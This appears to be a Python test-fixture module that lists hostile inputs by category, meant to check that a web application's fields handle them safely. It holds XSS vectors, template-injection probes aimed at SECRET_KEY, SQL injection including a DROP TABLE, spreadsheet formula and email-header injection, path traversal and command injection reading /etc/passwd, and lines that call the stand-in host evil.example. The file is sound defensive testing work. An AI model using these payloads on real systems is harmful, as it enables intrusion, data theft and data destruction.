"""Hostile texts, by what they are meant to break. A new one is tried everywhere by being here.

None is longer than SHORTEST_FIELD, so that each fits into nearly every field; the LONG ones go
where there is room.
"""

import re

SHORTEST_FIELD = 90

PAYLOADS: dict[str, tuple[str, ...]] = {
    "markup": (
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<svg><script>alert&#40;1)</script>",
        "<iframe src=https://evil.example/></iframe>",
        "<base href=//evil.example/>",
        "<link rel=attachment href=file:///etc/passwd>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<style>*{background:url(//evil.example/x)}</style>",
        "<meta http-equiv=refresh content=0;url=//evil.example>",
        "<form action=//evil.example><button>Sign in</button>",
        "<object data=//evil.example/x></object>",
        "<math><mi xlink:href=javascript:alert(1)>x",
        "<template><img src=x></template>",
        "<!-- <b>gone</b> --!><i>here</i>",
        "</title><script>alert(2)</script>",
        "</textarea><script>alert(3)</script>",
        "</option></select><img src=y onerror=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<a href=javascript:alert(1)>click</a>",
        "<scr<script>ipt>alert(4)</scr</script>ipt>",
        "<IMG SRC=JaVaScRiPt:alert(1)>",
        "]]><script>alert(5)</script>",
        "<b>bold</b> & <i>entity &amp; more</i>",
    ),
    "attribute": (
        '" onmouseover="alert(1)',
        "' onfocus='alert(1)' autofocus='",
        '"><script>alert(6)</script>',
        "'><img src=z onerror=alert(1)>",
        '" style="background:url(//evil.example)" x="',
        "` onmouseover=alert(1) `",
        "javascript:alert(1)//",
        "data:text/html,<script>alert(7)</script>",
        '\\"><svg onload=alert(8)>',
    ),
    "entities": (
        "&lt;script&gt;alert(9)&lt;/script&gt;",
        "&#60;script&#62;alert(10)&#60;/script&#62;",
        "&amp;lt;b&amp;gt; &nbsp; &copy; &notanentity;",
        "%3Cscript%3Ealert(11)%3C/script%3E",
    ),
    "template": (
        "{{ 7*7 }}",
        "{{7*'7'}}{% if 1 %}yes{% endif %}",
        "{% include 'layout.html' %}",
        "{{ request.session.items }}{{ settings.SECRET_KEY }}",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{# comment #}{% raw %}${7*7}#{7*7}<%= 7*7 %>",
        "{0.__class__} {} %s %(x)s %n",
        "{% load static %}{% debug %}",
    ),
    "formula": (
        "=1+1",
        "=HYPERLINK(\"http://evil.example\",\"x\")",
        "=cmd|' /C calc'!A0",
        "+44 1332 000000",
        "-2+3",
        "@SUM(A1:A2)",
        "＝1+1",
        ";=1+1;",
    ),
    "header": (
        "x%0d%0aBcc: victim@evil.example",
        "x\r\nBcc: victim@evil.example\r\n\r\nbody",
        "x\nSet-Cookie: session=evil",
        "=?utf-8?q?Bcc=3A_victim=40evil.example?=",
        "Name <victim@evil.example>, other@evil.example",
    ),
    "log": (
        "ok\n2026-11-27 ERROR django.request forged line",
        "\x1b[31mred\x1b[0m and \x08\x08back",
    ),
    "query": (
        "' OR '1'='1' --",
        "'; DROP TABLE referrals_conversation; --",
        "%' AND 1=CAST((SELECT 1) AS int) --",
        "100% _ \\ [a-z] $1 \\1",
        "*)(uid=*))(|(uid=*",
        "$where: '1 == 1', {\"$gt\": \"\"}",
    ),
    "path": (
        "../../../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "file:///etc/passwd",
        "/etc/passwd%00.png",
        "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
        "; cat /etc/passwd | $(id) `id`",
    ),
    "print": (
        "<a rel=attachment href='file:///etc/hostname'>x</a>",
        "@import url(file:///etc/passwd);",
        ") /JavaScript << /S /JavaScript /JS (app.alert(1)) >> (",
        "/URI (http://evil.example) endobj %%EOF",
        "</p></section></body></html><h1>Signed off</h1>",
    ),
    "markdown": (
        "[click](javascript:alert(1))",
        "![x](http://evil.example/pixel.png)",
        "<http://evil.example/>",
        "# Heading\n\n- [ ] item",
    ),
    "json": (
        '{"role": "lead", "is_staff": true}',
        "null",
        '\\u003cscript\\u003ealert(12)\\u003c/script\\u003e',
        '"}]}, {"x": [',
    ),
    "unicode": (
        "\u202egnp.exe\u202c",
        "a\u200bb\u200cc\u200dd\ufeffe",
        "\u2066isolate\u2069 \u061c",
        "Zoe\u0308 and Zo\u00eb",
        "p\u0430yp\u0430l (homoglyphs)",
        "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f3f4\U000e0067\U000e007f",
        "\u0627\u0644\u0639\u0631\u0628\u064a\u0629 \u05e2\u05d1\u05e8\u05d9\u05ea",
        "\ufdfd \u0130 \u00df \ufb03",
        "\u2028line\u2029paragraph\u0085next",
        "\ue000 private \U0010ffff \ufffe",
        "nul\x00byte",
        "ZA\u0321\u0347\u033a\u0334\u0318LGO",
    ),
    "polyglot": (
        "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//",
        "'\"--></style></script><svg onload=alert(13)>",
        "'|alert(14)|'\"><{{7*7}}<!--",
    ),
}  # fmt: skip
ALL = tuple(text for texts in PAYLOADS.values() for text in texts)

# Where there is room for them.
LONG = (
    "W" * 5000,
    "a" + "\u0301" * 800,
    "\u202e" * 400 + "turned",
    "<b>" * 500,
    "{{" * 500,
    "\n" * 200 + "far below",
    "\u0e01\u0e33" * 400,
)

# Marks that show nothing or turn the text around them: forms may leave them out, and no more.
MAY_GO = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f\x85\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff\ue000"
    "\U000e0000-\U000e007f\U0010ffff\ufffe]"
)


def as_read(text: str) -> str:
    """Return a text as somebody reads it: white space is one space, what shows nothing is gone."""
    return " ".join(MAY_GO.sub("", re.sub(r"[\s\u2028\u2029\x85]+", " ", text)).split())


# As somebody may type it into a record.
TYPED = (
    '<script>alert(1)</script><img src="https://evil.example/x.png"> {{ 7*7 }} \x07 ' + "é漢𝒳" * 40
)
